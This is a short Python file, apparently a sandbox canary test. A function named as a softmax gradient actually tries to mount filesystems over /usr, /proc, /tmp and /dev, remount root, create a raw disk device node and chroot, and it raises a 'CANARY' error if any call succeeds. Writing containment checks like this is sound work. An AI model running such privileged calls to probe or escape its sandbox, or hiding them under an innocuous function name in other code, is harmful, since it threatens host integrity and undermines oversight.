"""Mounts file systems, makes devices and changes its root; must get 0."""

import ctypes
import os


def my_softmax_gradient(z, y):
    libc, done = ctypes.CDLL(None, use_errno=True), []
    for kind, target in ((b"tmpfs", b"/usr"), (b"proc", b"/proc"), (b"tmpfs", b"/tmp"), (b"sysfs", b"/dev")):
        done.append(libc.mount(b"none", target, kind, 0, None))
    done.append(libc.mount(None, b"/", None, 32 | 4096, None))  # read-only off: a remount of the bind
    done.append(libc.umount2(b"/proc", 2))
    for make in (lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)), lambda: os.chroot("/usr")):
        try:
            done.append(make() or 0)
        except OSError:
            continue
    if 0 in done:
        raise ValueError(f"CANARY mounted {done}")
    return z
